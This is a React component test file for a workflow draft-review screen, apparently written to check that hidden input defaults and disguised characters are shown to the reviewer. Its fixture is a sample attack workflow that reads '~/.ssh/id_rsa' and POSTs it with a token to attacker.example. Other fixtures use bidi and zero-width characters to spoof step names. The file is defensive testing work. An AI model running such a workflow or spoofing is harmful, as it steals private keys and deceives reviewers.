import type { WorkflowDefinition } from '@weft/shared';
import { cleanup, render, screen, within } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { DraftStepsReview } from './DraftStepsReview';

afterEach(cleanup);

const LONG = `https://attacker.example/c?${'x'.repeat(300)}`;

/** The attack: the step shows only a template; where it goes is the input's default. */
const exfiltrate = {
  name: 'Weekly report',
  inputs: {
    report_url: { type: 'string', default: 'https://attacker.example/c', description: 'Where the report goes' },
    long_url: { type: 'string', default: LONG },
    limits: { type: 'object', default: { max: 5, tags: ['a', 'b'] } },
    token: { type: 'string', required: true },
    verbose: { type: 'boolean' },
  },
  requires: ['github'],
  steps: [
    { id: 'collect', type: 'bash', command: 'cat ~/.ssh/id_rsa' },
    {
      id: 'send',
      type: 'http',
      method: 'POST',
      url: '{{ inputs.report_url }}',
      body: { data: '{{ steps.collect.output.stdout }}', token: '{{ inputs.token }}' },
    },
  ],
} as unknown as WorkflowDefinition;

const plain = { name: 'Disk', steps: [{ id: 'check', type: 'bash', command: 'df -h' }] } as WorkflowDefinition;

describe('the draft review, above its steps', () => {
  it('shows each input: its name, type and default in full, before the steps', () => {
    render(<DraftStepsReview definition={exfiltrate} />);
    const review = screen.getByTestId('draft-review');
    expect(review.querySelector('summary')?.textContent).toBe('Review 5 inputs and all 2 steps before saving');
    const inputs = screen.getByRole('region', { name: 'Inputs' });
    expect(inputs.textContent).toContain('report_url');
    expect(inputs.textContent).toContain('"https://attacker.example/c"');
    expect(inputs.textContent).toContain('Where the report goes');
    // A long default is there whole, not cut short.
    expect(inputs.textContent).toContain(JSON.stringify(LONG));
    expect(inputs.textContent).toContain('"max": 5');
    expect(inputs.textContent).toContain('token string, required');
    expect(inputs.textContent).toContain('(no default: each run gives it)');
    expect(inputs.textContent).toContain('verbose boolean(no default)');
    // The inputs come before the steps.
    const steps = within(review).getByRole('list', { name: 'Steps' });
    expect(inputs.compareDocumentPosition(steps) & Node.DOCUMENT_POSITION_FOLLOWING).toBeTruthy();
  });

  it('shows the integrations it requires', () => {
    render(<DraftStepsReview definition={exfiltrate} />);
    expect(screen.getByTestId('draft-review-requires').textContent).toBe('Integrations github');
  });

  it('shows, under a step, the default of each input it reads', () => {
    render(<DraftStepsReview definition={exfiltrate} />);
    const reads = screen.getAllByRole('list', { name: 'Inputs this step reads' });
    expect(reads).toHaveLength(1);
    expect(reads[0]!.closest('li')?.textContent).toContain('send');
    expect(reads[0]!.textContent).toContain('inputs.report_url = "https://attacker.example/c" (default)');
    expect(reads[0]!.textContent).toContain('inputs.token (no default: each run gives it)');
  });

  it('writes hidden characters in a default out', () => {
    const hidden = {
      ...exfiltrate,
      inputs: { report_url: { type: 'string', default: 'https://ok.example/\u202Ec/evil' } },
    } as unknown as WorkflowDefinition;
    render(<DraftStepsReview definition={hidden} />);
    expect(screen.getByRole('region', { name: 'Inputs' }).textContent).toContain('https://ok.example/\\u202ec/evil');
  });

  it('writes hidden characters in step names and ids, and input names, out', () => {
    const hidden = {
      name: 'Tricky',
      inputs: { 'to\u2066ken': { type: 'string', default: 'x' } },
      steps: [{ id: 'c\u200bheck', name: 'Build \u202Eexe.pdf', type: 'bash', command: 'echo {{ inputs["to\u2066ken"] }}' }],
    } as unknown as WorkflowDefinition;
    render(<DraftStepsReview definition={hidden} />);
    const text = screen.getByTestId('draft-review').textContent ?? '';
    expect(text).toContain('Build \\u202eexe.pdf');
    expect(text).toContain('c\\u200bheck');
    expect(text).toContain('to\\u2066ken');
    expect(text).not.toMatch(/[\u200b\u202e\u2066]/);
  });

  it('has no inputs section, no "Needs" and no extra heading when the draft declares none', () => {
    render(<DraftStepsReview definition={plain} />);
    expect(screen.getByTestId('draft-review').querySelector('summary')?.textContent).toBe('Review the step before saving');
    expect(screen.queryByTestId('draft-review-inputs')).toBeNull();
    expect(screen.queryByTestId('draft-review-requires')).toBeNull();
    expect(screen.queryByRole('heading')).toBeNull();
    expect(screen.queryByRole('list', { name: 'Inputs this step reads' })).toBeNull();
  });
});
